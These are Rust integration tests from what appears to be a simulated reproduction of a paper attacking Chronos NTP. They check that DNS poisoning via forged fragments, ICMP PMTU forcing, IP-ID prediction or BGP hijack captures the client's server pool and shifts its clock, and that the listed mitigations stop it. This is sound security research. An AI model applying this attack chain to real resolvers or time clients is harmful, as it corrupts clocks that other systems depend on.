                frag_filter: FragFilter::RejectFragments,
                ..StackConfig::default()
            },
        );
        replacement.allow_client(addrs::CHRONOS);
        replacement.allow_client(addrs::PLAIN);
        *resolver = replacement;
    }
    s.run_pool_generation(SimDuration::from_hours(2));
    let (benign, malicious) = s.chronos_pool_composition();
    assert_eq!(malicious, 0, "no forged fragment ever reassembled");
    // The genuine responses fragment too (the attacker forced the PMTU),
    // so rounds after the first ICMP yield nothing — a DoS, not a capture.
    assert!(benign <= 8, "at most the pre-ICMP rounds landed: {benign}");
}

/// Reassembly-cache pressure: a flood of junk fragments evicts planted
/// ones, degrading (not crashing) the attack.
#[test]
fn reassembly_cache_pressure_is_handled() {
    use bytes::Bytes;
    use netsim::frag::{OverlapPolicy, ReassemblyCache, ReassemblyOutcome};
    use netsim::ip::{IpProto, Ipv4Packet};

    let mut cache =
        ReassemblyCache::with_limits(OverlapPolicy::First, SimDuration::from_secs(30), 64);
    // Plant one "attack" fragment...
    let mut plant = Ipv4Packet::new(
        "203.0.113.1".parse().unwrap(),
        "198.51.100.53".parse().unwrap(),
        IpProto::Udp,
        Bytes::from(vec![0xAA; 64]),
    );
    plant.id = 7;
    plant.frag_offset_units = 66;
    cache.insert(SimTime::ZERO, plant);
    // ...then flood with 200 unrelated junk queues.
    for i in 0..200u16 {
        let mut junk = Ipv4Packet::new(
            "10.9.9.9".parse().unwrap(),
            "198.51.100.53".parse().unwrap(),
            IpProto::Udp,
            Bytes::from(vec![0u8; 32]),
        );
        junk.id = 1000 + i;
        junk.more_fragments = true;
        cache.insert(SimTime::from_millis(u64::from(i)), junk);
    }
    assert!(cache.pending() <= 64, "capacity bound holds");
    assert!(cache.stats().evictions >= 137);
    // The planted fragment (oldest) was evicted: completing it fails.
    let mut head = Ipv4Packet::new(
        "203.0.113.1".parse().unwrap(),
        "198.51.100.53".parse().unwrap(),
        IpProto::Udp,
        Bytes::from(vec![0xBB; 528]),
    );
    head.id = 7;
    head.more_fragments = true;
    assert!(matches!(
        cache.insert(SimTime::from_secs(1), head),
        ReassemblyOutcome::Pending
    ));
}

/// Determinism under failure: the same seeded lossy scenario reproduces
/// byte-identical outcomes.
#[test]
fn lossy_runs_are_deterministic() {
    fn run(seed: u64) -> (usize, u64, i64) {
        let mut s = Scenario::build(ScenarioConfig {
            seed,
            benign_universe: 64,
            chronos: compressed_chronos(6, SimDuration::from_secs(200)),
            ..ScenarioConfig::default()
        });
        s.world.topology_mut().set_default_path(PathProfile {
            latency: LatencyModel::internet_default(),
            loss: 0.25,
        });
        s.run_pool_generation(SimDuration::from_hours(1));
        s.run_for(SimDuration::from_secs(300));
        let c: &ChronosClient = s.chronos();
        (
            c.pool().len(),
            s.world.stats().lost,
            c.offset_from_true(s.world.now()),
        )
    }
    assert_eq!(run(42), run(42));
    assert_ne!(run(42), run(43));
}
