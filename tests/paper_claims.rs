//! The paper's quantitative claims (C1–C10, DESIGN.md §1), each asserted
//! against this reproduction. This file is the checklist EXPERIMENTS.md
//! reports on.

use chronos_ntp_repro::*;

use attacklab::payload::{max_poison_records, POISON_TTL};
use attacklab::plan::{AttackPlan, PoisonStrategy};
use chronos::analysis::{panic_controlled, shift_attack_bound};
use chronos_pitfalls::experiments::{compressed_chronos, run_e7};
use chronos_pitfalls::poolmodel::{
    benign_composition, composition_after_poison, latest_winning_round, PoolModelParams,
};
use chronos_pitfalls::scenario::{Scenario, ScenarioConfig};
use chronos_pitfalls::successmodel::{opportunities, p_any_success};
use netsim::time::{SimDuration, SimTime};

/// C1: pool generation = 24 hourly DNS queries × 4 A records = 96 servers.
#[test]
fn c1_benign_pool_is_96() {
    assert_eq!(benign_composition(PoolModelParams::default()).total, 96);
    // And end-to-end through DNS:
    let mut s = Scenario::build(ScenarioConfig {
        seed: 101,
        benign_universe: 150,
        chronos: compressed_chronos(24, SimDuration::from_secs(200)),
        ..ScenarioConfig::default()
    });
    s.run_pool_generation(SimDuration::from_hours(3));
    assert_eq!(s.chronos().pool().len(), 96);
}

/// C2: 89 A records fit in a single non-fragmented DNS response.
#[test]
fn c2_eighty_nine_records() {
    let pool: dnslab::name::Name = "pool.ntp.org".parse().unwrap();
    assert_eq!(max_poison_records(&pool, 1500), 89);
}

/// C3: poisoning at/before round 12 ⇒ > 2/3; the final pool is 44 + 89.
#[test]
fn c3_round_twelve_deadline() {
    let row = composition_after_poison(PoolModelParams::default(), 12);
    assert_eq!((row.benign, row.malicious), (44, 89));
    assert!(row.fraction >= 2.0 / 3.0);
    assert_eq!(latest_winning_round(PoolModelParams::default()), Some(12));
    assert!(!composition_after_poison(PoolModelParams::default(), 13).controls_panic);
}

/// C4: the attacker gets 12 winning opportunities against Chronos vs 1
/// against plain NTP.
#[test]
fn c4_opportunity_amplification() {
    assert_eq!(opportunities::PLAIN_NTP, 1);
    assert_eq!(opportunities::CHRONOS_WINNING, 12);
    for q in [0.01, 0.1, 0.3] {
        assert!(p_any_success(q, 12) > p_any_success(q, 1));
    }
    // Small-q limit: 12x amplification.
    let q = 1e-5;
    let ratio = p_any_success(q, 12) / p_any_success(q, 1);
    assert!((ratio - 12.0).abs() < 0.01);
}

/// C5: TTL > 24 h freezes the pool — rounds after the poison add nothing.
#[test]
#[allow(clippy::assertions_on_constants)] // the constant relation IS claim C5
fn c5_high_ttl_freezes_pool() {
    assert!(POISON_TTL > 24 * 3600);
    let mut plan = AttackPlan::paper_default(SimDuration::from_millis(500));
    plan.strategy = PoisonStrategy::Oracle { round: 6 };
    let mut s = Scenario::build(ScenarioConfig {
        seed: 105,
        benign_universe: 150,
        chronos: compressed_chronos(24, SimDuration::from_secs(200)),
        attack: Some(plan),
        ..ScenarioConfig::default()
    });
    s.run_pool_generation(SimDuration::from_hours(3));
    let rounds = s.chronos().pool().rounds();
    assert_eq!(rounds.len(), 24);
    for r in &rounds[6..] {
        assert!(r.added.is_empty(), "round {} added {:?}", r.round, r.added);
    }
}

/// C6: below 1/3 of the pool, the expected effort to shift 100 ms is years
/// to decades; at 2/3 it collapses to a single poll.
#[test]
fn c6_security_bound_shape() {
    let shift = SimDuration::from_millis(100);
    let err = SimDuration::from_millis(100);
    let hourly = SimDuration::from_hours(1);
    let quarter = shift_attack_bound(500, 125, 15, 5, shift, err, hourly);
    assert!(quarter.expected_years > 20.0, "{}", quarter.expected_years);
    let third = shift_attack_bound(500, 166, 15, 5, shift, err, hourly);
    assert!(third.expected_years > 0.5, "{}", third.expected_years);
    let captured = shift_attack_bound(133, 89, 15, 5, shift, err, hourly);
    assert!(captured.panic_is_controlled);
    assert!(captured.expected_years < 1e-3);
}

/// C7–C9: the measurement study's marginals.
#[test]
fn c7_c8_c9_study_numbers() {
    let r = run_e7(9, 1000);
    assert_eq!(r.measured.nameservers_frag_vulnerable, 16);
    assert_eq!(r.measured.nameservers_total, 30);
    assert!((r.measured.resolvers_accept_any_pct - 90.0).abs() < 1.5);
    assert!((r.measured.resolvers_accept_tiny_pct - 64.0).abs() < 1.5);
    assert!((r.measured.resolvers_triggerable_pct - 14.0).abs() < 1.5);
}

/// C10: each §V mitigation stops the single-response injection; a 24 h BGP
/// hijack defeats both.
#[test]
fn c10_mitigations_and_residual() {
    let rows = chronos_pitfalls::experiments::run_e8(13, 4);
    let by_name = |name: &str| {
        rows.iter()
            .find(|r| r.variant.name() == name)
            .unwrap_or_else(|| panic!("variant {name}"))
    };
    assert!(!by_name("no attack").attack_succeeds);
    assert!(by_name("attack, unmitigated").attack_succeeds);
    assert!(!by_name("attack, cap 4/response").attack_succeeds);
    assert!(!by_name("attack, reject TTL>1h").attack_succeeds);
    assert!(!by_name("attack, both mitigations").attack_succeeds);
    let residual = by_name("24h BGP hijack vs both");
    assert!(residual.attack_succeeds);
    assert_eq!(residual.benign, 0, "every pool member is the attacker's");
}

/// The headline, end to end: a Chronos client with a captured pool follows
/// the attacker's clock, and panic mode is the capture vehicle.
#[test]
fn headline_panic_mode_capture() {
    let mut s = Scenario::build(ScenarioConfig {
        seed: 110,
        benign_universe: 150,
        chronos: compressed_chronos(24, SimDuration::from_secs(200)),
        attack: Some(AttackPlan {
            strategy: PoisonStrategy::Oracle { round: 12 },
            ..AttackPlan::paper_default(SimDuration::from_millis(500))
        }),
        ..ScenarioConfig::default()
    });
    s.run_pool_generation(SimDuration::from_hours(3));
    assert!(panic_controlled(133, 89));
    assert_eq!(s.chronos_pool_composition(), (44, 89));
    s.run_for(SimDuration::from_secs(900));
    let err = s.chronos().offset_from_true(s.world.now());
    assert!(err > 450_000_000, "shifted by {err}ns");
    let stats = s.chronos().stats();
    assert!(
        stats.panics >= 1 || stats.accepts >= 1,
        "capture went through selection or panic: {stats:?}"
    );
}

/// The attack works identically through a real BGP hijack window.
#[test]
fn bgp_strategy_capture() {
    let interval = SimDuration::from_secs(200);
    let mut s = Scenario::build(ScenarioConfig {
        seed: 111,
        benign_universe: 150,
        chronos: compressed_chronos(24, interval),
        attack: Some(AttackPlan {
            // Hijack active only around round 12 — one poisoned response.
            strategy: PoisonStrategy::BgpHijack {
                from: SimTime::ZERO + interval * 11 - SimDuration::from_secs(50),
                until: SimTime::ZERO + interval * 11 + SimDuration::from_secs(50),
            },
            ..AttackPlan::paper_default(SimDuration::from_millis(500))
        }),
        ..ScenarioConfig::default()
    });
    s.run_pool_generation(SimDuration::from_hours(3));
    let (benign, malicious) = s.chronos_pool_composition();
    assert_eq!(malicious, 89, "one hijacked response injected the farm");
    assert!(benign <= 48);
    assert!(s.attacker_fraction() >= 2.0 / 3.0);
}
