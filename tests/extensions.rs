//! Integration tests for the extensions beyond the paper's minimal scope:
//! consensus pool generation (E10), the blind-spoof scenario wiring, and
//! the forced-MTU ablation (E9b).

use attacklab::plan::{AttackPlan, PoisonStrategy};
use chronos::consensus::ConsensusRule;
use chronos_pitfalls::experiments::{compressed_chronos, run_e10, run_e11, run_e9_mtu};
use chronos_pitfalls::scenario::{Scenario, ScenarioConfig};
use netsim::time::{SimDuration, SimTime};

#[test]
fn e10_consensus_sweep_shape() {
    let rows = run_e10(23, 4);
    assert_eq!(rows.len(), 5);
    let union = &rows[0];
    assert!(matches!(union.rule, ConsensusRule::Union));
    assert!(union.attack_succeeds, "union = weakest resolver");
    let majority_one = &rows[1];
    assert!(
        !majority_one.attack_succeeds,
        "1-of-3 poisoned below quorum"
    );
    assert!(majority_one.benign > 0, "honest stable answers admitted");
    let majority_two = &rows[2];
    assert!(majority_two.attack_succeeds, "quorum reached at 2-of-3");
    let intersection = &rows[3];
    assert!(!intersection.attack_succeeds);
    let rotating = &rows[4];
    assert!(
        rotating.benign + rotating.malicious <= 8,
        "consensus over rotation starves the pool, got {} members",
        rotating.benign + rotating.malicious
    );
}

#[test]
fn e11_baseline_shape() {
    let rows = run_e11(29);
    assert_eq!(rows.len(), 2);
    assert!(rows[0].poisoned, "pre-Kaminsky resolver falls");
    assert!(!rows[1].poisoned, "randomized resolver stands");
    assert!(rows[0].analytic_per_attempt > rows[1].analytic_per_attempt * 1e3);
}

#[test]
fn e9b_mtu_ablation_monotone() {
    let rows = run_e9_mtu(18, 12);
    assert_eq!(rows.len(), 4);
    // Smaller forced MTU -> more glue reachable -> earlier (or equal) capture.
    let captures: Vec<Option<usize>> = rows.iter().map(|r| r.captured_at_round).collect();
    assert!(captures[0].is_some(), "296 must capture");
    if let (Some(small), Some(large)) = (captures[0], captures[3]) {
        assert!(small <= large, "296 captured at {small}, 548 at {large}");
    }
    for r in &rows {
        assert_eq!(r.forge_failures, 0, "templates always forgeable");
    }
}

/// The BlindSpoof strategy wires into a scenario: against a hardened
/// resolver it produces traffic but no capture.
#[test]
fn blind_spoof_scenario_wiring() {
    let mut cfg = ScenarioConfig {
        seed: 301,
        benign_universe: 64,
        chronos: compressed_chronos(4, SimDuration::from_secs(200)),
        attack: Some(AttackPlan {
            strategy: PoisonStrategy::BlindSpoof {
                start: SimTime::ZERO,
                burst: 32,
            },
            ..AttackPlan::paper_default(SimDuration::from_millis(500))
        }),
        ..ScenarioConfig::default()
    };
    // The spoofer triggers through the open-resolver interface.
    cfg.resolver.open = true;
    let mut s = Scenario::build(cfg);
    s.run_pool_generation(SimDuration::from_secs(1400));
    let (benign, malicious) = s.chronos_pool_composition();
    assert_eq!(malicious, 0, "randomized resolver resists blind spoofing");
    assert_eq!(benign, 16, "pool generation unaffected");
    // The spoofer really flooded: find it by label and check its counters.
    // (Port-mismatched forgeries are dropped before any TXID check, so the
    // resolver's rejection counters legitimately stay near zero — 32
    // guesses against a 64512-port space almost never even hit the pending
    // query's port.)
    let spoofer_id = (0..s.world.node_count())
        .map(netsim::node::NodeId::new)
        .find(|&id| s.world.label(id) == "spoofer")
        .expect("spoofer node present");
    let stats = s
        .world
        .node::<attacklab::kaminsky::BlindSpoofAttacker>(spoofer_id)
        .stats();
    assert!(stats.attempts >= 5);
    assert!(stats.forged_sent >= 5 * 32);
}

/// Resolver-side TTL capping (defence-in-depth) also neutralises the
/// oracle poison: the capped entry expires and later rounds go upstream.
#[test]
fn resolver_ttl_cap_defence_in_depth() {
    let mut s = Scenario::build(ScenarioConfig {
        seed: 302,
        benign_universe: 120,
        chronos: compressed_chronos(24, SimDuration::from_secs(200)),
        resolver_ttl_cap: Some(150),
        attack: Some(AttackPlan {
            strategy: PoisonStrategy::Oracle { round: 12 },
            ..AttackPlan::paper_default(SimDuration::from_millis(500))
        }),
        ..ScenarioConfig::default()
    });
    s.run_pool_generation(SimDuration::from_hours(3));
    let (benign, malicious) = s.chronos_pool_composition();
    // The poisoned entry still served round 12 (89 records enter once),
    // but its TTL was capped to 150 s: rounds 13-24 miss the cache, reach
    // the genuine nameserver and keep adding benign servers.
    assert_eq!(malicious, 89);
    assert!(
        benign >= 44 + 4 * 11,
        "pool kept growing after the capped poison: {benign}"
    );
    assert!(
        s.attacker_fraction() < 2.0 / 3.0,
        "attack defeated: {:.3}",
        s.attacker_fraction()
    );
}
