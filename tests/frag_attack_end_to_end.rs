//! End-to-end packet-level validation of the paper's attack chain:
//!
//! ICMP PMTU forcing → IP-ID prediction → forged-tail pre-planting →
//! resolver glue poisoning → fake-nameserver capture → 89-record pool
//! injection → ≥ 2/3 Chronos pool majority → panic-mode clock control.
//!
//! No oracle shortcuts: every step here happens through packets.

use attacklab::fragpoison::FragPoisoner;
use attacklab::payload::is_farm_addr;
use attacklab::plan::{AttackPlan, PoisonStrategy};
use chronos::client::Phase;
use chronos_pitfalls::experiments::compressed_chronos;
use chronos_pitfalls::scenario::{Scenario, ScenarioConfig};
use netsim::stack::IpIdPolicy;
use netsim::time::{SimDuration, SimTime};

fn frag_attack_config(seed: u64, rounds: usize) -> ScenarioConfig {
    ScenarioConfig {
        seed,
        benign_universe: 120,
        chronos: compressed_chronos(rounds, SimDuration::from_secs(200)),
        attack: Some(AttackPlan {
            strategy: PoisonStrategy::Fragmentation {
                start: SimTime::ZERO,
            },
            ..AttackPlan::paper_default(SimDuration::from_millis(500))
        }),
        ..ScenarioConfig::default()
    }
}

#[test]
fn fragmentation_attack_captures_the_pool() {
    let rounds = 12;
    let mut scenario = Scenario::build(frag_attack_config(1001, rounds));
    scenario.run_pool_generation(SimDuration::from_secs(200 * (rounds as u64 + 4)));

    assert_eq!(scenario.chronos().phase(), Phase::Syncing);
    let (benign, malicious) = scenario.chronos_pool_composition();
    assert!(
        malicious >= 89,
        "attacker records reached the pool: {malicious}"
    );
    assert!(
        scenario.attacker_fraction() >= 2.0 / 3.0,
        "attacker fraction {} with {benign} benign",
        scenario.attacker_fraction()
    );

    // The attacker really worked for it.
    let stats = scenario
        .world
        .node::<FragPoisoner>(scenario.nodes.frag_attacker.expect("frag attacker present"))
        .stats();
    assert!(stats.probes > 0, "probed the nameserver");
    assert!(stats.plants > 0, "planted forged fragments");
    assert!(stats.icmp_sent > 0, "forced the PMTU via ICMP");
    assert_eq!(stats.forge_failures, 0, "every template forged cleanly");
}

#[test]
fn fragmentation_attack_then_time_shift() {
    let rounds = 8;
    let mut scenario = Scenario::build(frag_attack_config(1002, rounds));
    scenario.run_pool_generation(SimDuration::from_secs(200 * (rounds as u64 + 4)));
    assert!(scenario.attacker_fraction() >= 2.0 / 3.0);

    // Let Chronos sync against the captured pool: the farm's +500 ms lie
    // becomes the victim's clock within a few polls (sample capture or
    // panic-mode trimmed mean — both are attacker-controlled at 2/3).
    scenario.run_for(SimDuration::from_secs(600));
    let err = scenario.chronos().offset_from_true(scenario.world.now());
    assert!(
        err > 450_000_000,
        "victim clock dragged by {err}ns (want ~+500ms)"
    );
}

#[test]
fn random_ip_ids_defeat_the_fragmentation_attack() {
    let rounds = 8;
    let mut cfg = frag_attack_config(1003, rounds);
    cfg.auth_ip_id = IpIdPolicy::Random;
    let mut scenario = Scenario::build(cfg);
    scenario.run_pool_generation(SimDuration::from_secs(200 * (rounds as u64 + 4)));

    let (_, malicious) = scenario.chronos_pool_composition();
    assert_eq!(
        malicious, 0,
        "with random IP-IDs the planted fragments never match"
    );
    // And the pool generation completed normally from benign responses.
    assert_eq!(scenario.chronos().pool().len(), 4 * rounds);
}

#[test]
fn poisoned_glue_is_visible_in_the_resolver_cache() {
    use dnslab::cache::CacheKey;

    let rounds = 6;
    let mut scenario = Scenario::build(frag_attack_config(1004, rounds));
    scenario.run_pool_generation(SimDuration::from_secs(200 * (rounds as u64 + 4)));
    if scenario.attacker_fraction() < 2.0 / 3.0 {
        // Seed-dependent first-round race can delay capture; the other
        // tests cover success. Nothing to check here.
        return;
    }
    let now = scenario.world.now();
    let resolver_id = scenario.nodes.resolver;
    let resolver = scenario
        .world
        .node_mut::<dnslab::resolver::RecursiveResolver>(resolver_id);
    // At least one nameserver glue record now points into the attacker's
    // infrastructure (198.19.255.53, the fake NS).
    let mut poisoned_glue = 0;
    for i in 1..=14 {
        let key = CacheKey::a(format!("ns{i}.pool.ntp.org").parse().unwrap());
        if let Some(records) = resolver.cache_mut().get(now, &key) {
            for r in &records {
                if r.as_a() == Some(attacklab::farm::fake_ns_addr()) {
                    poisoned_glue += 1;
                }
            }
        }
    }
    assert!(poisoned_glue > 0, "forged glue cached at the resolver");
    // The pool entry itself carries the attacker's 89 farm records.
    let pool = resolver
        .cache_mut()
        .get(now, &CacheKey::a("pool.ntp.org".parse().unwrap()))
        .expect("pool entry cached");
    let farm = pool
        .iter()
        .filter_map(|r| r.as_a())
        .filter(|&a| is_farm_addr(a))
        .count();
    assert_eq!(farm, 89);
}
